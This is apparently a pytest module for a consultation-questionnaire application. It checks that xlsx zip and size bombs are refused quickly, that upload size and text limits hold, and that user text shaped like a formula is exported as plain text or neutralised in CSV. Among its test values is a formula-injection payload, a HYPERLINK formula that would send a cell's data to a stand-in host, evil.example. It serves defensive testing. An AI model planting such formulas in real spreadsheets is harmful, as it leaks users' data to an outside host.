"""Issue 13, items 1 and 7: the questionnaire's limits (size bombs refused quickly, before and
while reading, nothing written; the same text limits as the web form), its text written as text
(never a formula, in every workbook and CSV file), and an unchanged questionnaire re-importing with
nothing changed. On SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import time
import tracemalloc
from dataclasses import replace

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import text

import xlsx_bombs as bombs
from rcm import consult, users
from rcm.cli import cli
from rcm.errors import DocumentError, RcmError
from rcm.export.cells import csv_cell
from rcm.export.questionnaire import write_questionnaire
from rcm.store import Store
from rcm.web import rounds as web_rounds
from webclient import client_for, csrf_of

# The bombs of the issue (some smaller than the where the size changes nothing but the
# time to make them), and what the refusal says.
BOMBS = {
    "huge cell": (lambda q: bombs.huge_cell(q, 64_000_000), "unpacks to 64,000,"),
    "long cell": (bombs.long_cell, "a cell is longer than 20,000 characters"),
    "whitespace": (lambda q: bombs.whitespace(q, 30_000_000), "unpacks to 30,000,"),
    "whitespace, high ratio": (lambda q: bombs.whitespace(q, 5_000_000), "compressed more than"),
    "far cell, declared": (bombs.far_cell, "declares 1,048,576 rows and 16,384 columns"),
    "far cell, undeclared": (
        lambda q: bombs.far_cell(q, dimension=False),
        "has a row 1,048,576; this questionnaire has at most",
    ),
    "far column": (lambda q: bombs.far_cell(q, "XFD2", dimension=False), "column 16,384"),
    "outside the dimensions": (bombs.outside_dimension, "outside the dimensions it declares"),
    "a million rows": (bombs.many_rows, "rows per sheet"),
    "rows beyond the statements": (
        lambda q: bombs.many_rows(q, 200, answered=True),
        "rows per sheet",
    ),
    "shared strings, one huge": (
        lambda q: bombs.shared_strings(q, 1, 30_000_000),
        "sharedStrings.xml unpacks to",
    ),
    "shared strings, one long": (
        lambda q: bombs.shared_strings(q, 1, 1_000_000),
        "shared string 1 is longer than 20,000",
    ),
    "shared strings, too many": (
        lambda q: bombs.shared_strings(q, 500_000, 8),
        "shared strings, more than its sheets may have cells",
    ),
    "high-ratio part": (bombs.high_ratio, "compressed more than 100:1"),
    "lying sizes": (lambda q: bombs.lying_sizes(q, 30_000_000), "damaged"),
    "one part, three sheets": (bombs.one_part_many_sheets, "unpacks to more than 52,428,800"),
}


def _state(store: Store) -> dict[str, str]:
    out = {}
    with store.engine.connect() as conn:
        for table in ("opinions", "opinion_history", "audit_events"):
            rows = conn.execute(text(f"SELECT * FROM {table}")).all()
            body = "\n".join(sorted(repr(tuple(r)) for r in rows))
            out[table] = f"{len(rows)} {hashlib.sha256(body.encode()).hexdigest()}"
    return out


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
)
def consultation(request, tmp_path_factory, compendium):
    """A round on every statement, a focal point of Costa Rica, Costa Rica's questionnaire; made
    once per backend (the bombs are refused: nothing is written)."""
    from conftest import _fresh_postgres_database

    def build(url: str):
        store = Store(url, create=True)
        store.ingest(compendium)
        _, password = users.add_user(store, "cri", "focal_point", country="CRI")
        rnd = consult.open_round(store, "Every statement")
        return store, rnd, password

    if request.param == "sqlite":
        store, rnd, password = build(f"sqlite:///{tmp_path_factory.mktemp('db') / 'rcm.db'}")
        yield store, rnd, password, write_questionnaire(store, rnd.id, "CRI")
        store.close()
        return
    with _fresh_postgres_database() as url:
        store, rnd, password = build(url)
        yield store, rnd, password, write_questionnaire(store, rnd.id, "CRI")
        store.close()


@pytest.mark.parametrize("kind", list(BOMBS))
def test_a_questionnaire_bomb_is_refused_quickly_and_nothing_written(consultation, kind):
    store, rnd, _, questionnaire = consultation
    make, message = BOMBS[kind]
    bomb = make(questionnaire)
    before = _state(store)
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(DocumentError, match=message):
            consult.import_questionnaire(store, rnd.id, bomb, "cri.xlsx", "cri")
        seconds = time.monotonic() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert seconds < 5, seconds  # the bombs took 21 to 63 s (and 1.5 to 1.9 GB)
    assert peak < 64 * 1024 * 1024, peak
    assert _state(store) == before


def test_an_honest_questionnaire_is_still_accepted(consultation):
    """The limits leave room: an answer with the longest wording and comment allowed, and a sheet
    with every spare row, are read (then not written: the round is checked only)."""
    store, rnd, _, questionnaire = consultation
    wb = load_workbook(io.BytesIO(questionnaire))
    ws = wb.worksheets[0]
    ws.cell(2, 4).value = "Yes, with changes"
    ws.cell(2, 5).value = "w" * consult.MAX_WORDING
    ws.cell(2, 6).value = "c" * consult.MAX_COMMENT
    last = 1 + rnd.statements + consult.SPARE_ROWS
    ws.cell(last, 7).value = "a note in the last row allowed, beside the questionnaire's columns"
    out = io.BytesIO()
    wb.save(out)
    result = consult.import_questionnaire(store, rnd.id, out.getvalue(), "cri.xlsx", "cri")
    assert result.written == 1
    with store.engine.begin() as conn:  # put the module's database back as it was
        for table in ("opinion_history", "opinions"):
            conn.execute(text(f"DELETE FROM {table}"))
    ws.cell(last + 1, 1).value = "one row too many"
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(DocumentError, match=f"at most {last} rows"):
        consult.import_questionnaire(store, rnd.id, out.getvalue(), "cri.xlsx", "cri")


def _upload(c, rnd, name: str, data: bytes):
    token = csrf_of(c, f"/rounds/{rnd.id}/answers")
    files = {"file": (name, data, "application/octet-stream")}
    return c.post(
        f"/rounds/{rnd.id}/questionnaire", data={"csrf": token, "country": "CRI"}, files=files
    )


def test_a_bomb_uploaded_on_the_web_is_refused(consultation):
    store, rnd, password, questionnaire = consultation
    c = client_for(store, {"cri": password}, "cri")
    before = _state(store)
    for kind in ("huge cell", "far cell, declared", "a million rows"):
        make, message = BOMBS[kind]
        r = _upload(c, rnd, "cri.xlsx", make(questionnaire))
        assert r.status_code == 400 and message in r.text, (kind, r.status_code)
    assert _state(store) == before


def test_the_upload_is_cut_off_while_it_arrives(consultation):
    """More than a questionnaire may be is refused (413) as it arrives: at once when the
    Content-Length says so, and after about the limit when the body comes in chunks with no
    length given."""
    store, rnd, password, _ = consultation
    c = client_for(store, {"cri": password}, "cri")
    token = csrf_of(c, f"/rounds/{rnd.id}/answers")
    before = _state(store)
    big = b"x" * (web_rounds.MAX_UPLOAD_BODY + 1)
    r = c.post(
        f"/rounds/{rnd.id}/questionnaire",
        content=big,
        headers={"content-type": "multipart/form-data; boundary=b"},
    )
    assert r.status_code == 413 and "at most 5 MB" in r.text
    # The chunked body is given to the real app as an ASGI server would, one megabyte at a time,
    # counting how many the app asks for (TestClient would read it all before the app sees it).
    head = (
        f'--b\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{token}\r\n'
        '--b\r\nContent-Disposition: form-data; name="file"; filename="q.xlsx"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode()
    pulled = 0

    async def receive():
        nonlocal pulled
        pulled += 1
        body = head if pulled == 1 else b"\0" * (1024 * 1024)
        return {"type": "http.request", "body": body, "more_body": pulled < 200}

    sent = []

    async def send(message):
        sent.append(message)

    cookies = "; ".join(f"{k}={v}" for k, v in c.cookies.items())
    path = f"/rounds/{rnd.id}/questionnaire"
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [
            (b"host", b"testserver"),
            (b"cookie", cookies.encode()),
            (b"content-type", b"multipart/form-data; boundary=b"),
        ],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    asyncio.run(c.app(scope, receive, send))
    assert sent[0]["type"] == "http.response.start" and sent[0]["status"] == 413
    assert pulled <= 8, pulled  # cut off after about 5 MB of the 200 MB
    assert _state(store) == before


# --- answers' text limits: one definition for the form, the CLI and the questionnaire -----------


def test_the_answer_form_and_the_questionnaire_share_the_text_limits(consultation):
    store, rnd, password, questionnaire = consultation
    c = client_for(store, {"cri": password}, "cri")
    page = c.get(f"/rounds/{rnd.id}/answers?show=all").text  # the fields, not the task list
    assert f'maxlength="{consult.MAX_WORDING}"' in page
    assert f'maxlength="{consult.MAX_COMMENT}"' in page
    sid = bombs.first_statement(questionnaire)
    before = _state(store)
    token = csrf_of(c, f"/rounds/{rnd.id}/answers")
    r = c.post(
        f"/rounds/{rnd.id}/answers",
        data={
            "csrf": token,
            "country": "CRI",
            f"v:{sid}": "valid",
            f"c:{sid}": "c" * (consult.MAX_COMMENT + 1),
        },
    )
    assert r.status_code == 400 and f"at most {consult.MAX_COMMENT:,}" in r.text
    with pytest.raises(RcmError, match="the proposed wording has 20,001 characters"):
        consult.set_opinion(
            store,
            rnd.id,
            "CRI",
            sid,
            "valid with changes",
            proposed_wording="w" * (consult.MAX_WORDING + 1),
            author="cri",
        )
    wb = load_workbook(io.BytesIO(questionnaire))
    ws = wb.worksheets[0]
    ws.cell(2, 4).value = "No"
    ws.cell(2, 6).value = "r" * (consult.MAX_COMMENT + 1)
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(DocumentError, match=r"row 2: the reason has 5,001 characters"):
        consult.import_questionnaire(store, rnd.id, out.getvalue(), "cri.xlsx", "cri")
    assert _state(store) == before


# --- text, never formulas; and the round trip --------------------------------------------------

FORMULAS = {
    "comment": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "reason": "=1+1",
    "wording": "+SUM(1,2)",
    "at": "@SUM(1)",
    "minus": "-2+3",
}


def test_user_text_is_written_as_text_and_re_imports_unchanged(store, compendium, tmp_path):
    """A comment, reason or wording that looks like a formula is a string cell in the
    questionnaire; the questionnaire sent back untouched writes nothing, including "No" rows
    (refused before: their reason, a formula, read back empty) and rows whose opinion has both a
    reason and a comment (`rcm opinion set --reason --comment`) or a multi-line comment typed in
    the web form (CR LF)."""
    store.ingest(compendium)
    rnd = consult.open_round(store, "Every statement")
    with store.connection() as conn:
        ids = sorted(consult._scope(conn, rnd.id))[:8]
    runner = CliRunner()
    url = store.url

    def opinion(*args: str) -> None:
        result = runner.invoke(cli, ["--db", url, "opinion", "set", str(rnd.id), "MEX", *args])
        assert result.exit_code == 0, result.output

    opinion(ids[0], "valid", "--comment", FORMULAS["comment"])
    opinion(ids[1], "no longer valid", "--reason", FORMULAS["reason"])
    opinion(ids[2], "valid with changes", "--wording", FORMULAS["wording"])
    opinion(ids[3], "abstain", "--comment", FORMULAS["at"])
    opinion(ids[4], "no longer valid", "--reason", FORMULAS["minus"], "--comment", "and more")
    opinion(ids[5], "no longer valid", "--reason", "Two lines\r\nof reason")
    consult.set_opinion(
        store, rnd.id, "MEX", ids[6], "valid", comment="Line one\r\nline two", author="web"
    )
    data = write_questionnaire(store, rnd.id, "MEX")
    wb = load_workbook(io.BytesIO(data))
    cells = {}
    for ws in wb.worksheets[:-1]:
        for row in ws.iter_rows(min_row=2):
            if row[0].value in ids:
                cells[row[0].value] = row
    assert (cells[ids[0]][5].data_type, cells[ids[0]][5].value) == ("s", FORMULAS["comment"])
    assert (cells[ids[1]][5].data_type, cells[ids[1]][5].value) == ("s", FORMULAS["reason"])
    assert (cells[ids[2]][4].data_type, cells[ids[2]][4].value) == ("s", FORMULAS["wording"])
    assert all(c.data_type != "f" for row in cells.values() for c in row)
    history = len(consult.history(store, ids[0]))
    result = consult.import_questionnaire(store, rnd.id, data, "MEX.xlsx", "mex")
    assert (result.written, result.unchanged) == (0, 7)
    assert len(consult.history(store, ids[0])) == history
    path = tmp_path / "MEX.xlsx"
    path.write_bytes(data)
    again = runner.invoke(cli, ["--db", url, "round", "import", str(rnd.id), str(path)])
    assert again.exit_code == 0 and "0 answers written, 7 unchanged" in again.output, again.output


def test_csv_exports_neutralise_formulas(store, compendium):
    """`rcm export --format csv` and /search.csv write a field beginning with =, +, -, @, a tab
    or a CR with a quote in front (one function, rcm.export.cells.csv_cell); the .xlsx exports
    (`rcm export --format xlsx`, /search.xlsx) hold it as a string cell."""
    first, second = compendium.statements[:2]
    evil = '=HYPERLINK("https://evil.example","trafficking")'
    minus = "-1+1 trafficking"
    changed = replace(
        compendium,
        statements=[
            replace(first, text=evil),
            replace(second, text=minus),
            *compendium.statements[2:],
        ],
    )
    store.ingest(changed)
    result = CliRunner().invoke(cli, ["--db", store.url, "export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.output))}
    assert rows[first.id]["text"] == "'" + evil
    assert rows[second.id]["text"] == "'" + minus
    c = client_for(store)
    found = csv.DictReader(io.StringIO(c.get("/search.csv?q=trafficking").text))
    texts = {r["id"]: r["text"] for r in found}
    assert texts[first.id] == "'" + evil and texts[second.id] == "'" + minus
    for data in (
        CliRunner().invoke(cli, ["--db", store.url, "export", "--format", "xlsx"]).stdout_bytes,
        c.get("/search.xlsx?q=trafficking").content,
    ):
        ws = load_workbook(io.BytesIO(data))["All statements"]
        cell = next(r[7] for r in ws.iter_rows(min_row=2) if r[0].value == first.id)
        assert (cell.data_type, cell.value) == ("s", evil)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        (-3, "-3"),
        (2.5, "2.5"),
        (None, ""),
    ],
)
def test_csv_cell(value, written):
    assert csv_cell(value) == written


def test_the_documents_state_the_questionnaire_limits_of_the_code():
    """README and docs/deploy.md state the code's limits (deploy.md said 10 MB, the code 5 MB)."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    megabytes = consult.MAX_XLSX_BYTES // (1024 * 1024)
    deploy = (root / "docs" / "deploy.md").read_text(encoding="utf-8")
    readme = (root / "README.md").read_text(encoding="utf-8")
    assert f"questionnaires are at most {megabytes} MB" in deploy
    assert f"is at most {megabytes} MB as a file" in deploy
    assert f"{consult.MAX_XLSX_UNPACKED // (1024 * 1024)} MB unpacked" in deploy
    assert f"{consult.MAX_XLSX_PART // (1024 * 1024)} MB per part" in deploy
    assert f"at most {consult.MAX_XLSX_RATIO}:1" in deploy
    assert (
        f"{consult.MAX_XLSX_SHEETS} sheets of at most {consult.MAX_XLSX_COLUMNS} columns" in deploy
    )
    assert f"the header and {consult.SPARE_ROWS}" in deploy
    assert f"a cell holds at most {consult.MAX_CELL:,} characters" in deploy
    assert f"a proposed\nwording {consult.MAX_WORDING:,}" in deploy
    assert f"a reason or comment {consult.MAX_COMMENT:,}" in deploy
    assert f"larger than {megabytes} MB" in readme
    assert "10 MB" not in deploy
